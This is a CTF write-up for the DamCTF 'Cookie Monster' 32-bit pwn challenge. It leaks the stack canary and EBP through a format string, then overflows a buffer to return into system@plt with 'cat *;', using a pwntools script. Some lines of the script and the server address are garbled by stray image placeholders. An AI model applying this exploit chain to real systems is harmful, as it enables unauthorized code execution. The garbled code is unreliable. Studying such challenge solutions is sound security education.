title: Cookie Monster
date: Nov 09, 2021
tags: Writeups DamCTF Pwn

Cookie Monster

153 solves / 406 points

Do you like cookies? I like cookies.
nc 31312Author: BobbySinclusto


First of all, we need to gather as much information as we can.

Challenge interactions: chall

Bash commands:

file cookie-monster
cookie-monster: ELF 32-bit LSB executable, Intel 80386, version 1 (SYSV), dynamically linked, interpreter /lib/, for GNU/Linux 3.2.0, BuildID[sha1]=998281a5f422a675de8dde267cefad19a8cef519, not stripped

gdb - checksec
[+] checksec for 'chall'
Canary                        : ✓ (value: 0x60ca4e00)
NX                            : ✓
PIE                           : ✘
Fortify                       : ✘
RelRO                         : Partial

ltrace ./chall
system("cat cookies.txt")

Bakery function: (using ghidra decompiler with cutter)

void bakery(void)
    int32_t unaff_EBX;
    int32_t in_GS_OFFSET;
    char *format;
    int32_t var_ch;
    int32_t var_4h;

    var_ch = *(int32_t *)(in_GS_OFFSET + 0x14);
    printf(unaff_EBX + 0x1e6);
    fgets(&format, 0x20, **(undefined4 **)(unaff_EBX + 0x1a66));
    printf(unaff_EBX + 0x1f8);
    puts(unaff_EBX + 0x202);
    system(unaff_EBX + 0x228);
    puts(unaff_EBX + 0x23a);
    fgets(&format, 0x40, **(undefined4 **)(unaff_EBX + 0x1a66));
    puts(unaff_EBX + 0x25c);
    if (var_ch != *(int32_t *)(in_GS_OFFSET + 0x14)) {

With the above command, we can extract the following information:Binary exploit

  1. Finding vulnerabilities

With the above information we can start by injecting simple %x format string:


It seems to be vulnerable, we now need to get our stack offset:


Well, using the first input, we can write want we want where we want, but if the ASLR protection is enabled on the server side, we won't be able to do anything interesting with only this exploit. So, let's give a look to the second input with trying a simple buffer overflow exploit.


We got " stack smashing detected : ./chall terminated" error which means that we have successfully exploited the BoF and overwrite the canary value.

Now that we have everything we need, we're going to chain exploit both vulnerabilities.

  1. Leaking Canary and EBP value

In order to leak both EBP and Canary value, we need to use gdb to find their stack offset.


With some gdb research we can figure out:

  1. Getting system address

As we saw in the binary protection, PIE is disabled and system is called in the binary. So, we have a free system address that we can use to make our exploit.

gdb - disass bakery0x0804860c <+134>:   call   0x8048440 <system@plt>

  1. Finding EIP offset

For this part, we need in a first time to disable temporarily canary protect to verify if we correctly overwrite EIP:

set $eax=0
set $eip=0x8048664

Then using gdb pattern we can quickly get its value:

pattern create 100


stopped 0x6161616d (maaa)

Compute "maaa" offset and we find 48.

  1. Chain exploitNow that we have everything to exploit the binary, we just need to create a python script that:

from re import search
from pwn import *

def reverseAddress(address, increase=False, add=0):
    if increase:
        address = hex(int(address, base=16) + add)[2:]
    address = [address[i:i+2] for i in range(0, 8, 2)][::-1] # little indian mode
    address = " ".join(address)
    address = bytes.fromhex(address)
    return addressif args.REMOTE:"Connexion au serveur distant")
    p = remote("", 31312)
else:"Execution du binaire en local")
    p = process('./chall')

# Format string
payload = "%15$x.%18$x"

# Reading canary value
leak = p.recvline().decode()
leak = search("Hello(.*?)\.(.*?)\n", leak)
canary = reverseAddress(
ebp =reverseAddress(, True, -4)

# Cookies shop output
p.recvuntil(b'to purchase?\n')# Buffer overflow offset
payload = 32*b"A"
payload += canary
payload += 12*b"A"
payload += reverseAddress("0804860c") # EIP overflow on system func
payload += ebp
payload += b"cat *;"


# Have a nice day!

Starting the script finally gives us the flag!!Flag: dam{s74CK_c00k13S_4r3_d3L1C10Us}